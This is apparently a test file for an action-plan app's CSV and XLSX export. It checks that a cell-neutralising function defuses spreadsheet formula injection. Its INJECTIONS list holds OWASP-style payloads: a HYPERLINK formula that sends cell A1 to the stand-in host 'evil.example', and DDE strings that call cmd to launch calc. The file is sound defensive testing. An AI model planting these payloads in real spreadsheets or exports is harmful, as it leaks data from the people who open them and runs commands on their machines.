import ExcelJS from 'exceljs';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import JSZip from 'jszip';
import { parse } from 'csv-parse/sync';
import { EXPORT_COLUMNS, exportRows } from '../../src/domain/export-rows';
import { neutraliseCell, restoreNeutralisedCell } from '../../src/domain/spreadsheet-safety';
import { readCsv } from '../../src/files/read-csv';
import { exportCsv, exportXlsx } from '../../src/files/write-table';
import { anAction } from '../support/builders';

/** The usual CSV injection strings (OWASP), one per trigger character. */
const INJECTIONS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the report")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '-2+3',
  '\t=1+1',
  '\r=1+1',
];

describe('neutraliseCell', () => {
  test.each(INJECTIONS)('%j gets a leading quote', (text) => {
    expect(neutraliseCell(text)).toBe(`'${text}`);
    expect(restoreNeutralisedCell(neutraliseCell(text))).toBe(text);
  });

  test.each([
    ['plain text', 'Review the complaints process'],
    ['a formula character later on', 'Target: 95% = good'],
    ['an empty cell', ''],
    ['a leading space', ' =1'],
    ['a quote the plan itself starts with', "'Tis the season"],
  ])('%s is left as it is', (_, text) => {
    expect(neutraliseCell(text)).toBe(text);
    expect(restoreNeutralisedCell(text)).toBe(text);
  });

  test('a negative number typed as text is neutralised too (documented in the README)', () => {
    expect(neutraliseCell('-5')).toBe("'-5");
  });
});

const TODAY = '2026-11-21';
/** One action per injection string, with it in every free-text field a person can fill. */
const actions = INJECTIONS.map((text, i) =>
  anAction({
    ref: `INJ-${i + 1}`,
    theme: text,
    title: text,
    agency: text,
    owner: { email: 'alexw@example.com', displayName: text, aadObjectId: null },
    measures: [{ indicator: text, target: null, latest: null }],
    latestUpdate: { text, by: 'alexw@example.com', at: '2026-11-20T16:45:00.000Z' },
  }),
);

describe('the CSV export', () => {
  const rows = exportRows(actions, TODAY);
  const records: string[][] = parse(exportCsv(rows).toString('utf8').slice(1), { relax_column_count: false });

  test('no cell starts a formula', () => {
    expect(records).toHaveLength(INJECTIONS.length + 1);
    for (const record of records) for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  test('each injection string is kept, as text behind a quote', () => {
    const column = (name: string) => EXPORT_COLUMNS.indexOf(name as (typeof EXPORT_COLUMNS)[number]);
    INJECTIONS.forEach((text, i) => {
      const record = records[i + 1];
      for (const name of ['Theme', 'Action', 'Agency', 'Measure']) expect(record[column(name)]).toBe(`'${text}`);
      expect(record[column('Owner')]).toBe(`'${text} <alexw@example.com>`);
      expect(record[column('Latest update')]).toMatch(/^'/);
    });
  });

  test('the headings and ordinary cells are unchanged', () => {
    expect(records[0]).toEqual([...EXPORT_COLUMNS]);
    expect(records[1][0]).toBe('INJ-1');
  });

  test('importing the export takes the quotes off again, so nothing changes', () => {
    const read = readCsv(exportCsv(rows));
    if (!read.ok) throw new Error(read.error);
    const title = EXPORT_COLUMNS.indexOf('Action');
    expect(read.rows.slice(1).map((r) => r[title])).toEqual(INJECTIONS);
  });
});

describe('the XLSX export', () => {
  test('writes every injection string as a plain text cell, never a formula', async () => {
    const bytes = await exportXlsx(exportRows(actions, TODAY), 'inj');
    const zip = await JSZip.loadAsync(bytes);
    const sheet = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
    expect(sheet).not.toMatch(/<f[\s>]/);
    const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'inj-')), 'plan.xlsx');
    fs.writeFileSync(file, bytes);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(file);
    const ws = workbook.worksheets[0];
    INJECTIONS.forEach((text, i) => {
      const cell = ws.getRow(i + 2).getCell(EXPORT_COLUMNS.indexOf('Action') + 1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      // XML reads a carriage return back as a line feed; the text is otherwise exactly as typed.
      expect(cell.value).toBe(text.replace(/\r/g, '\n'));
    });
  });
});
